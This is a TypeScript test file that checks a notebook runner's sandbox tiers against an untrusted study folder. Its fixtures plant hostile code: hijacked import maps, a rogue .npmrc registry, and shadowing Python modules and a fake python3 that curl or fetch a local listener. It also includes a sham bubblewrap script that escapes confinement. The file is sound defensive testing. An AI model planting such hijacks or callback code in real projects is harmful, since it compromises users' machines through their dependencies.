// @heavy: kernels in boxes
import { spawn } from "node:child_process";
import { mkdir, mkdtemp, readdir, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { type AddressInfo, createServer, type Server } from "node:net";
import { homedir, tmpdir } from "node:os";
import { dirname, join } from "node:path";
import process from "node:process";
import { afterEach, beforeEach, expect, test } from "vitest";
import { type Box, type BoxTier, openBox } from "../../../src/study/run/box.ts";
import { runNotebooks } from "../../../src/study/run/run_notebooks.ts";
import { ROOT } from "../../helpers/source_files.ts";
import type { NotebookCell, NotebookFile } from "../../../src/study/run/notebook_file.ts";
import { notebookOf } from "../../helpers/jupyter/jupyter.ts";
import { describeWithJupyter } from "../../helpers/jupyter/needs_jupyter.ts";
import { TIERS } from "./_tiers.ts";

const LONG_MS = 600_000;
const SECRET = "svc_test_of_the_reader";

let folder: string;
let port: number;
let reached: string[];
let server: Server;
let home: string;

beforeEach(async () => {
  folder = await realpath(await mkdtemp(join(tmpdir(), "scoreframe-stranger-")));
  home = await mkdtemp(join(homedir(), ".scoreframe-test-"));
  await writeFile(join(home, "private"), "the secret of the home");
  reached = [];
  server = createServer((socket) => {
    socket.on("error", () => {});
    socket.on("data", (data) => reached.push(String(data).slice(0, 200)));
    reached.push("a connection");
    socket.end("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
  });
  await new Promise<void>((ready) => server.listen(0, "0.0.0.0", ready));
  port = (server.address() as AddressInfo).port;
  process.env.SCOREFRAME_API_KEY = SECRET;
});
afterEach(async () => {
  delete process.env.SCOREFRAME_API_KEY;
  server.close();
  await rm(folder, { recursive: true });
  await rm(home, { recursive: true });
});

async function put(files: Readonly<Record<string, string>>): Promise<void> {
  for (const [path, text] of Object.entries({ "study.lock.json": "{}", ...files })) {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
  }
}

const boxes = new Map<BoxTier, Promise<Box>>();

function boxOf(tier: BoxTier): Promise<Box> {
  const box = boxes.get(tier) ?? openBox({ isTrusted: tier === "trust", tiers: [tier] });
  boxes.set(tier, box);
  return box;
}

// A way counts as closed only if its cell says that it was tried.
async function tryWays(tier: BoxTier, ways: readonly string[]): Promise<string[]> {
  const cells = ways.map((way) =>
    `try {
      const late = new Promise((end) => setTimeout(() => end("nothing yet"), 2000));
      const got = await Promise.race([(async () => { ${way} })(), late]);
      console.log("tried", String(got ?? "").slice(0, 80));
    } catch (error) { console.log("tried", String(error).slice(0, 80)); }`
  );
  const notebook = notebookOf(cells) as unknown as NotebookFile;
  const study = { folder, path: "a.ipynb", timeoutS: 120 };
  const executed = await (await boxOf(tier)).execute(notebook, study);
  expect(executed.box.tier).toBe(tier);
  return executed.cells.slice(1).map(textOf);
}

function textOf({ outputs = [] }: NotebookCell): string {
  return outputs.map(({ text }) => [text].flat().join("")).join("");
}

await describeWithJupyter("a stranger's notebook", () => {
  test.each(TIERS)("in %s is started from nothing of the study's", async (tier) => {
    const url = `http://127.0.0.1:${port}`;
    const evil = `await fetch("${url}/evil").catch(() => {}); throw new Error("evil code ran");`;
    const python =
      `import urllib.request; urllib.request.urlopen("${url}/python"); raise SystemExit("evil code ran")`;
    const names = ["scoreframe", "nodejs-polars", "@resvg/resvg-js", "undici"];
    await put({
      "deno.json": JSON.stringify({
        imports: {
          "scoreframe": `${url}/mod.ts`,
          "nodejs-polars": "./evil.ts",
          "std/": `${url}/`,
          mine: "./mine.ts",
        },
        importMap: "./map.json",
        tasks: { study: "deno eval 1" },
      }),
      "map.json": JSON.stringify({ imports: { "scoreframe": "./evil.ts" } }),
      "package.json": JSON.stringify({ dependencies: { "scoreframe": "1.0.0" } }),
      ".npmrc": `registry=${url}/`,
      "evil.ts": evil,
      "mine.ts": "export const mine = 5;",
      ...Object.fromEntries(names.flatMap((name) => [
        [
          `node_modules/${name}/package.json`,
          JSON.stringify({ name, main: "index.js", type: "module" }),
        ],
        [`node_modules/${name}/index.js`, evil],
      ])),
      ...Object.fromEntries(
        ["nbclient", "nbformat", "hashlib", "json", "sitecustomize", "usercustomize", "socket"]
          .map((name) => [`${name}.py`, python]),
      ),
      "bin/python3": `#!/bin/sh\ncurl ${url}/bin`,
    });
    const before = process.cwd();
    process.chdir(folder);
    try {
      const said = await tryWays(tier, [
        `const { PACKAGE_VERSION, openStudy } = await import("scoreframe"); return typeof openStudy;`,
        `const { default: pl } = await import("nodejs-polars"); return pl.DataFrame({ a: [1] }).height;`,
        `return (await import("mine")).mine;`,
      ]);
      expect(said.slice(0, 3)).toEqual(["tried function\n", "tried 1\n", "tried 5\n"]);
    } finally {
      process.chdir(before);
    }
    expect(reached).toEqual([]);
  }, LONG_MS);

  test.each(TIERS)(
    "in %s runs none of its modules before its cells, whatever names it maps",
    async (tier) => {
      const { dependencies } = JSON.parse(await readFile(join(ROOT, "package.json"), "utf8"));
      const names = Object.keys(dependencies);
      const forms = [
        ...names.flatMap((name) => [name, `${name}/`, `${name}/package.json`]),
        ...names.filter((name) => name.startsWith("@")).map((name) => `${name.split("/")[0]}/`),
        ...[
          "scoreframe",
          "scoreframe/",
          "scoreframe/analysis",
          "npm:nodejs-polars",
          "node:fs",
          "./",
          "/",
        ],
        ...[`file://${ROOT}/mod.ts`, `${ROOT}/`, "../", "https:"],
      ];
      const imports = Object.fromEntries(
        forms.map((name) => [name, name.endsWith("/") ? "./evil/" : "./evil/x.ts"]),
      );
      const mark =
        'Deno.writeTextFileSync(new URL("../marked", import.meta.url), "x"); Deno.exit();';
      await put({
        "deno.json": JSON.stringify({ imports: { ...imports, mine: "./mine.ts" } }),
        "tsconfig.json": JSON.stringify({ compilerOptions: { paths: { "*": ["./evil/x.ts"] } } }),
        "mine.ts": "export const mine = 5;",
        "evil/x.ts": mark,
        ...Object.fromEntries(names.flatMap((name) => [
          [`evil/${name.split("/").at(-1)}`, mark],
          [`evil/${name.split("/").at(-1)}.ts`, mark],
        ])),
      });
      const cells = [
        'try { Deno.readTextFileSync("marked"); console.log("marked"); } catch { console.log("not marked"); }',
        'console.log((await import("mine")).mine, typeof (await import("scoreframe")).openStudy);',
      ];
      const executed = await (await boxOf(tier)).execute(
        notebookOf(cells) as unknown as NotebookFile,
        { ...{ folder, path: "a.ipynb", timeoutS: 60 } },
      );
      expect(executed.cells.slice(1).map(textOf)).toEqual(["not marked\n", "5 function\n"]);
      expect(executed.unmapped.length).toBe(forms.length);
    },
    LONG_MS,
  );

  test("is not run where nothing shuts it in, but with the reader's word", async () => {
    await put({ "a.ipynb": JSON.stringify(notebookOf(["1 + 1"])) });
    await expect(openBox({ isTrusted: false, tiers: [] })).rejects.toThrow("podman run");
    // A bubblewrap that shuts nothing in is found out, and the next way is taken.
    const program = join(folder, "bin", "bwrap");
    await mkdir(dirname(program));
    const script = '#!/bin/sh\nwhile [ "$1" != --chdir ]; do shift; done\nshift 2\nexec "$@"\n';
    await writeFile(program, script, { mode: 0o755 });
    const { PATH } = process.env;
    process.env.PATH = `${dirname(program)}:${PATH}`;
    try {
      const leaking = openBox({ isTrusted: false, tiers: ["bubblewrap"] });
      await expect(leaking).rejects.toThrow(/bubblewrap: TCP, .*led out/);
      const { tier } = await openBox({ isTrusted: false, tiers: ["bubblewrap", ...TIERS] });
      expect(TIERS).toContain(tier);
    } finally {
      process.env.PATH = PATH;
    }
    const trusted = await runNotebooks(folder, { trust: true });
    const box = { tier: "trust", attempts: {} };
    expect(trusted.notebooks).toEqual([{ path: "a.ipynb", box, failure: null }]);
  }, LONG_MS);

  test.each(TIERS)("in %s runs a cell of several lines, as a file has them", async (tier) => {
    await put({ "a.ipynb": "{}" });
    const [cell] = notebookOf([""]).cells;
    const lines = { cells: [{ ...cell!, source: ["const a = 20;\n", "console.log(a + 1);"] }] };
    const notebook = { ...notebookOf([]), ...lines } as unknown as NotebookFile;
    const study = { folder, path: "a.ipynb", timeoutS: 120 };
    const { cells } = await (await boxOf(tier)).execute(notebook, study);
    expect(cells[1]!.outputs?.map(({ text }) => text)).toEqual(["21\n"]);
  }, LONG_MS);

  test.runIf(process.platform === "linux").each<BoxTier>([...TIERS, "trust"])(
    "in %s ends with the process that ran it, however that ended",
    async (tier) => {
      await put({ "a.ipynb": "{}" });
      const args = ["run", "-A", join(import.meta.dirname!, "_box_process.ts"), folder, tier];
      const env = { ...process.env, TMPDIR: home };
      const child = spawn(Deno.execPath(), args, { env, stdio: "ignore" });
      const ended = new Promise((resolve) => child.on("exit", resolve));
      const wait = { timeout: LONG_MS, interval: 50 };
      await expect.poll(() => kernelsBelow(home), wait).toHaveLength(1);
      child.kill("SIGKILL");
      await ended;
      await expect.poll(() => kernelsBelow(home), { timeout: 30_000 }).toEqual([]);
    },
    LONG_MS,
  );
});

/** The processes of a kernel whose files are below a folder, by their command lines. */
async function kernelsBelow(path: string): Promise<string[]> {
  const lines = await Promise.all(
    (await readdir("/proc")).map((id) =>
      /^\d+$/.test(id) ? readFile(`/proc/${id}/cmdline`, "utf8").catch(() => "") : ""
    ),
  );
  return lines.filter((line) => line.includes("jupyter\0--kernel") && line.includes(path));
}
